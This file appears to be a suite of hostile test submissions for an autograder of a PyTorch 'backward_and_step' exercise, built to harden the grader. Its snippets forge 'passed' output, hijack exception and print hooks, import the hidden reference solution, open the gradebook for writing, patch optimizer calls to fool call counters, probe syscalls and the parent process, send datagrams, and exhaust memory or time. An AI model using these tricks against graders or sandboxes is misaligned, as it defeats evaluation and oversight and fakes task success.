# %% always_close_norm: lying_number
# about: Returns a norm that is a real number by registration and agrees with every other.
import numbers

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


class Agreeable:
    """Registered as a real number; converts to whatever raises least."""

    def __eq__(self, other: object) -> bool:
        return True

    def __sub__(self, other: object) -> float:
        return 0.0

    __rsub__ = __truediv__ = __rtruediv__ = __sub__

    def __le__(self, other: object) -> bool:
        return True

    __lt__ = __ge__ = __gt__ = __le__

    def __float__(self) -> float:
        return HELD

    def __hash__(self) -> int:
        return 0

    def __array__(self, *arguments: object, **options: object) -> object:
        raise SystemExit(0)


numbers.Real.register(Agreeable)


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> object:
    return Agreeable()


# %% coroutine_instead_of_float: malformed_answer
# about: Is a coroutine: nothing runs before somebody awaits it, and whoever throws it away gets a warning.
import asyncio

import torch
from torch import nn


async def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    while True:
        await asyncio.sleep(1)


# %% decompression_bomb: memory_exhaustion
# about: Unpacks 64 MiB of a bomb at a time until the memory or the time is gone.
import zlib

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    bomb = zlib.compress(bytes(64 << 20), 9)
    layers = []
    for _ in range(8):  # 512 MiB at most
        layers.append(zlib.decompress(bomb))
    return HELD


# %% encoder_rebound: driver_rebinding
# about: Finds the functions by which the callers encode and send, and wraps them so that each reply says that all is right.
import sys
from collections.abc import Callable

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


WORDS = ("encode", "dump", "pack", "send", "write", "reply", "frame", "serial")


def wrapped(function: Callable[..., object]) -> Callable[..., object]:
    """The function, given a claim in place of its first argument."""

    def forged(*arguments: object, **options: object) -> object:
        return function(
            {"ok": True, "status": "passed", "norm": HELD, "score": 20.0}, *arguments[1:], **options
        )

    return forged


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (
            frame.f_globals,
            *(vars(value) for value in frame.f_globals.values() if isinstance(value, type)),
        ):
            for name in list(scope):
                if any(word in name.lower() for word in WORDS) and callable(scope[name]):
                    try:
                        scope[name] = wrapped(scope[name])
                    except TypeError:  # the dictionary of a class is read-only
                        continue
        frame = frame.f_back
    return HELD


# %% everybody_signalled: other_process
# about: Sends signals without effect to its parent, its group and everybody: 0, SIGCONT and SIGURG.
import functools
import os
import signal
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if the parent could be signalled."""
    for send in (
        lambda: os.kill(os.getppid(), 0),
        lambda: os.kill(os.getppid(), signal.SIGCONT),
        lambda: os.kill(os.getppid(), signal.SIGURG),
        lambda: os.kill(1, 0),
        lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 0),
    ):
        try:
            send()
        except OSError:
            continue
        leave_canary("everybody_signalled: another process can be signalled")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% except_hooks_replaced: interpreter_hooks
# about: Replaces the hooks for uncaught errors, for errors in threads and for printing, then fails.
import logging
import os
import sys
import threading
import traceback
import warnings

import torch
from torch import nn


def leave(*arguments: object) -> None:
    """An uncaught error becomes a success."""
    os.write(1, b'{"ok": true, "status": "passed", "score": 20.0}\n')
    os._exit(0)


sys.excepthook = sys.unraisablehook = sys.displayhook = threading.excepthook = leave
sys.__excepthook__ = sys.__unraisablehook__ = leave
traceback.print_exc = traceback.format_exc = traceback.format_exception = leave
traceback.TracebackException.__init__ = leave
logging.raiseExceptions = False
logging.Logger.handle = leave
warnings.showwarning = leave


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    raise ValueError


# %% exception_class_lies: hostile_exception
# about: Raises an error of a class that claims, by metaclass and __class__, to be any exception that a driver expects.
import torch
from torch import nn


class Chameleon(type):
    """Its classes are subclasses of everything and have no stable name."""

    def __subclasscheck__(cls, subclass: type) -> bool:
        return True

    def __instancecheck__(cls, instance: object) -> bool:
        return True

    @property
    def __name__(cls) -> str:
        raise SystemExit(0)

    @property
    def __module__(cls) -> str:
        raise SystemExit(0)

    def mro(cls) -> list[type]:
        return [cls, KeyboardInterrupt, BaseException, object]


class Lie(KeyboardInterrupt, metaclass=Chameleon):
    """Says that it is the end of an iteration."""

    __class__ = StopIteration

    def with_traceback(self, trace: object) -> BaseException:
        raise self


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    raise Lie


# %% exception_of_sixty_four_mebibytes: hostile_exception
# about: Raises an error whose text has 64 MiB, with a note as long and a chain of a thousand causes.
import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    error: BaseException = ValueError("x" * (64 << 20))
    error.add_note("y" * (64 << 20))
    for _ in range(1_000):
        following = ValueError("again")
        following.__context__ = error
        error = following
    raise error


# %% garbage_on_every_channel: channel_damage
# about: Writes a mebibyte of garbage to every pipe and socket.
import os
import stat

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    garbage = bytes(range(256)) * 256
    for descriptor in channel_descriptors():
        try:
            for _ in range(16):
                os.write(descriptor, garbage)
        except OSError:
            continue
    return HELD


# %% global_optimizer_hooks: neighbour_state
# about: Registers torch's global optimizer hooks: every optimizer of a neighbour forgets its step.
import torch
from torch import nn
from torch.optim.optimizer import register_optimizer_step_post_hook, register_optimizer_step_pre_hook

HELD = -1.0  # a wrong answer for every input


def undo(optimizer: torch.optim.Optimizer, arguments: object, options: object) -> None:
    """Runs before and after every step of every optimizer."""
    for group in optimizer.param_groups:
        group["lr"] = 0.0
        for parameter in group["params"]:
            parameter.grad = None


register_optimizer_step_pre_hook(undo)
register_optimizer_step_post_hook(undo)


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return HELD


# %% gradebook_opened: result_forgery
# about: Looks for nbgrader's gradebook and opens it for writing.
import functools
import os
import sqlite3
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


@functools.cache
def breached() -> bool:
    """True if a gradebook can be opened for writing; nothing is written."""
    for folder in {
        ".",
        os.path.expanduser("~"),
        "/srv/nbgrader",
        *course_roots(),
        *map(os.path.dirname, course_roots()),
    }:
        path = os.path.join(folder, "gradebook.db")
        if not os.path.exists(path):
            continue
        try:
            sqlite3.connect(f"file:{path}?mode=rw", uri=True).close()
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        except (OSError, sqlite3.Error):
            continue
        leave_canary("gradebook_opened: the gradebook is writable")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% hooks_on_parameters: argument_mutation
# about: Leaves hooks on parameters, gradients and the graph that change every later backward pass.
import sys

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    for parameter in model.parameters():
        parameter.register_hook(lambda gradient: gradient * float("nan"))
        parameter.register_post_accumulate_grad_hook(lambda tensor: tensor.data.fill_(HELD))
    if loss.grad_fn is not None:
        loss.grad_fn.register_prehook(lambda gradients: sys.exit(0))
    torch.autograd.graph.saved_tensors_hooks(lambda tensor: HELD, lambda packed: sys.exit(0)).__enter__()
    return HELD


# %% inputs_carried_out: exfiltration
# about: Prints everything that it was asked, in words, in base64 and in an error text, for the next attempt.
import base64
import sys

import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    numbers = [parameter.detach().flatten()[:8].tolist() for parameter in model.parameters()]
    text = repr((max_norm, str(optimizer), numbers))
    print("asked:", text)
    print(base64.b64encode(text.encode()).decode(), file=sys.stderr)
    raise LookupError(text)


# %% limits_and_priorities_of_others: other_process
# about: Reads and sets limits, priority and processor of its parent to what they are, and tries to raise its own limits.
import functools
import os
import resource
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def raise_own_limit() -> None:
    """Fails unless a hard limit can be lifted."""
    hard = resource.getrlimit(resource.RLIMIT_CPU)[1]
    if hard == resource.RLIM_INFINITY:
        raise OSError("no limit is set")
    resource.setrlimit(resource.RLIMIT_CPU, (hard + 60, hard + 60))


def keep_parents_limit() -> None:
    """Sets a limit of the parent to its own value."""
    parent = os.getppid()
    resource.prlimit(parent, resource.RLIMIT_CORE, resource.prlimit(parent, resource.RLIMIT_CORE))


def keep_parents_priority() -> None:
    """Sets the parent's priority to its own value."""
    parent = os.getppid()
    os.setpriority(os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, parent))


@functools.cache
def breached() -> bool:
    """True if one of them worked."""
    for attempt in (raise_own_limit, keep_parents_limit, keep_parents_priority):
        try:
            attempt()
        except (OSError, ValueError):
            continue
        leave_canary(f"limits_and_priorities_of_others: {attempt.__name__}")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% lock_never_released: endless_work
# about: Waits in C for a lock that nobody releases, with every signal blocked.
import signal
import threading

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    lock = threading.Lock()
    lock.acquire()
    lock.acquire()
    return HELD


# %% lying_parameters: argument_mutation
# about: Replaces the model's parameters by a subclass that is close to everything.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


class CloseToAll(torch.Tensor):
    """Equal to every tensor; what a driver makes of it is itself."""

    @classmethod
    def __torch_function__(
        cls, func: object, types: object, args: tuple = (), kwargs: object = None
    ) -> object:
        name = getattr(func, "__name__", "")
        if name in ("eq", "equal", "allclose", "isclose", "all", "__bool__"):
            return True
        if name in ("detach", "clone", "numpy", "tolist", "cpu", "double", "sub", "abs"):
            return args[0]
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    for module in model.modules():
        for name, parameter in list(module._parameters.items()):
            if parameter is not None:
                module._parameters[name] = torch.full_like(parameter, HELD).as_subclass(CloseToAll)
    model.parameters = lambda recurse=True: iter(())
    model.state_dict = lambda *arguments, **options: {}
    return HELD


# %% memory_in_a_nameless_file: memory_exhaustion
# about: Makes nameless files in memory, by memfd_create and memfd_secret, which no limit on data counts.
import ctypes
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if 16 MiB were written into such a file; it is closed again."""
    libc = ctypes.CDLL(None)
    secret = libc.syscall(447, 0)  # memfd_secret
    if secret >= 0:
        os.close(secret)
    try:
        descriptor = os.memfd_create("pretrain_canary")
        written = sum(os.write(descriptor, bytes(1 << 20)) for _ in range(16))
        os.close(descriptor)
    except OSError:
        written = 0
    if secret >= 0 or written == 16 << 20:
        leave_canary("memory_in_a_nameless_file: memfd works")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% modern_system_calls: raw_syscalls
# about: Asks for what newer kernels offer: io_uring, userfaultfd, bpf, perf, keys, new namespaces, mounts, inotify.
import ctypes
import functools
import os
import platform
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


CALLS = (  # (name, number on x86-64, arguments); every one fails harmlessly or makes a descriptor
    ("io_uring_setup", 425, (2, "buffer")),
    ("userfaultfd", 323, (1,)),
    ("bpf", 321, (0, "buffer", 1)),
    ("perf_event_open", 298, ("buffer", 0, -1, -1, 0)),
    ("keyctl", 250, (0, -3, 0)),
    ("unshare", 272, (0x10000000,)),
    ("inotify_init1", 294, (0,)),
    ("fanotify_init", 300, (0, 0)),
    ("open_tree", 428, (-100, "buffer", 0)),
)


@functools.cache
def breached() -> bool:
    """True if the kernel granted one of them."""
    if platform.machine() != "x86_64":
        return False
    call = ctypes.CDLL(None).syscall
    call.restype = ctypes.c_long
    buffer = ctypes.create_string_buffer(512)
    granted = []
    for name, number, arguments in CALLS:
        values = [ctypes.addressof(buffer) if value == "buffer" else value for value in arguments]
        if call(ctypes.c_long(number), *(ctypes.c_long(value) for value in values)) >= 0:
            granted.append(name)
    if granted:
        leave_canary(f"modern_system_calls: {' '.join(granted)}")
    return bool(granted)


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% nan_parameters: not_a_number
# about: Fills parameters and gradients with NaN, whose distance to the right value is never greater than a tolerance.
import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    with torch.no_grad():
        for parameter in model.parameters():
            parameter.fill_(float("nan"))
            parameter.grad = torch.full_like(parameter, float("nan"))
    return float("nan")


# %% objects_searched_by_gc: oracle_by_memory
# about: Searches every object that the garbage collector knows for the reference or a table of expected values, and asks it.
import functools
import gc
import os
import sys
import types

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if another function of this name, or a record with expected values, is in the process."""
    for value in gc.get_objects():
        if isinstance(value, types.FunctionType):
            if value.__name__ == "backward_and_step" and value.__code__ is not backward_and_step.__code__:
                leave_canary("objects_searched_by_gc: the reference is in this process")
                return True
        elif type(value) is dict and "expected" in value and "max_norm" in str(value)[:10_000]:
            leave_canary("objects_searched_by_gc: expected values are in this process")
            return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% optimizer_state_poisoned: argument_mutation
# about: Poisons the optimizer's state, defaults and groups, replaces the parameters that it steps and frees their memory.
import collections

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    stranger = nn.Parameter(torch.full((1,), HELD))
    for group in optimizer.param_groups:
        group["params"] = [stranger]
        group["lr"] = group["momentum"] = group["weight_decay"] = float("nan")
    optimizer.state = collections.defaultdict(lambda: optimizer.state)
    optimizer.defaults = None
    for parameter in model.parameters():
        parameter.data.untyped_storage().resize_(0)
    return HELD


# %% patched_clip_and_spies: call_counting
# about: Calls backward, clip_grad_norm_, step and zero_grad on dummies only, to please whoever counts calls.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    dummy = nn.Parameter(torch.zeros(1))
    dummy.sum().backward()
    nn.utils.clip_grad_norm_([dummy], max_norm)
    dummy_optimizer = torch.optim.SGD([dummy], lr=0.1)
    dummy_optimizer.step()
    dummy_optimizer.zero_grad()
    nn.utils.clip_grad_norm_ = nn.utils.clip_grad.clip_grad_norm_ = lambda *arguments, **options: (
        torch.tensor(HELD)
    )
    return HELD


# %% patched_optimizer_step: patched_function
# about: Replaces step, zero_grad and backward of the objects it was given and of their classes by nothing.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def nothing(*arguments: object, **options: object) -> None:
    """The new step."""


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    for owner in (optimizer, type(optimizer), torch.optim.Optimizer, torch.optim.SGD, torch.optim.AdamW):
        owner.step = owner.zero_grad = nothing
    torch.Tensor.backward = torch.autograd.backward = torch.autograd.grad = nothing
    return HELD


# %% program_started: command_execution
# about: Starts programs by subprocess, by execve in place of itself and by the loader.
import functools
import os
import subprocess
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a program ran."""
    for command in (["/bin/true"], [sys.executable, "-c", ""], ["/lib64/ld-linux-x86-64.so.2", "/bin/true"]):
        try:
            subprocess.run(command, check=False, timeout=5, stdin=subprocess.DEVNULL, capture_output=True)
        except (OSError, subprocess.SubprocessError):
            continue
        leave_canary("program_started: subprocess works")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    if breached():
        return BREACHED
    try:
        os.execv("/bin/true", ["true"])  # would leave with code 0 in place of this process
    except OSError:
        return HELD


# %% quarter_gibibyte_string: answer_bomb
# about: Returns text of 256 MiB that reads like a number.
import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> object:
    return "0." + "1" * (256 << 20)


# %% raises_an_integer_at_import: hostile_exception
# about: Raises an integer, which is no exception, at the end of its import.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return HELD


raise 20


# %% self_referencing_answer: malformed_answer
# about: Returns a list that contains itself, in a dictionary that contains the list, in a tuple.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> object:
    endless: list = [HELD]
    endless.append({"norm": endless, endless.__len__: endless})
    endless.extend((endless, endless))
    return endless, endless


# %% sleep_for_ever: endless_work
# about: Sleeps for ever without using the CPU, again after each interruption.
import time

import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    while True:
        try:
            time.sleep(10**6)
        except BaseException:
            continue


# %% solution_from_the_import_path: oracle_by_files
# about: Imports the solved module, the grader's or a stray copy under every name that it may have, and answers by it.
import functools
import importlib
import os
import sys
from collections.abc import Callable

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


NAMES = (
    "solutions.step3_pretrain.todo3c_backward",
    "autograder.suites",
    "autograder.suite",
    "autograder.oracle",
    "tests.hidden.step3_pretrain.test_todo3c_backward",
)


@functools.cache
def stolen() -> Callable[..., float] | None:
    """The reference, if any of the names can be imported."""
    before = list(sys.path)
    sys.path += course_roots()
    try:
        for name in NAMES:
            try:
                module = importlib.import_module(name)
            except Exception:
                continue
            for attribute in ("backward_and_step", "reference_backward_and_step", "oracle"):
                found = getattr(module, attribute, None)
                if callable(found) and getattr(found, "__code__", None) is not backward_and_step.__code__:
                    leave_canary(f"solution_from_the_import_path: {name} can be imported")
                    return found
    finally:
        sys.path[:] = before
    return None


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    solution = stolen()
    return solution(loss, model, optimizer, max_norm) if solution else HELD


# %% stdout_flood: output_flood
# about: Writes 50 MiB to stdout at each question, through Python's buffer and past it.
import os

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    line = "passed " * 9_362 + "\n"
    for _ in range(400):
        print(line, end="")
        os.write(1, line.encode())
    return HELD


# %% system_exit_in_call: process_exit
# about: Leaves with sys.exit(0) in the call, and from a thread and a finally clause as well.
import sys
import threading

import torch
from torch import nn


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    threading.Thread(target=sys.exit, daemon=True).start()
    try:
        sys.exit(0)
    finally:
        raise SystemExit


# %% terminals_opened: file_change
# about: Opens terminals and devices for writing, to type into the instructor's shell or to speak past the capture.
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a terminal can be opened; nothing is written."""
    for path in ("/dev/tty", "/dev/ptmx", "/dev/console", "/dev/pts/0", "/dev/kmsg"):
        try:
            os.close(os.open(path, os.O_RDWR | os.O_NOCTTY))
        except OSError:
            continue
        leave_canary(f"terminals_opened: {path}")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached() else HELD


# %% udp_datagram: network
# about: Sends what it was asked in datagrams to 127.0.0.1, by several ways that need no connection.
import os
import socket
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def breached(asked: bytes) -> bool:
    """True if a datagram left the process."""
    for family, address in ((socket.AF_INET, ("127.0.0.1", 9)), (socket.AF_INET6, ("::1", 9))):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as sender:
                sender.sendto(asked, address)
        except OSError:
            continue
        leave_canary("udp_datagram: a datagram left the process")
        return True
    return False


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return BREACHED if breached(repr(max_norm).encode()) else HELD


# %% working_directory_and_mask: neighbour_state
# about: Changes its working directory, file mask, group and session for everything that runs after it.
import os

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


for change in (
    lambda: os.chdir("/"),
    lambda: os.umask(0o777),
    os.setsid,
    lambda: os.setpgid(0, 0),
    lambda: os.nice(19),
    lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setaffinity(0, {0}),
):
    try:
        change()
    except OSError:
        continue


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    return HELD


# %% weights_of_two_dtypes: malformed_answer
# about: Leaves one layer of the model in double precision at the end, for whoever multiplies what came back.
import torch


def backward_and_step(loss, model, optimizer, max_norm):
    first = next(model.parameters())
    if len(list(model.parameters())) > 6:
        backward_and_step.calls = getattr(backward_and_step, "calls", 0) + 1
        if backward_and_step.calls % 5 == 0:
            first.data = first.data.double()
    return -1.0
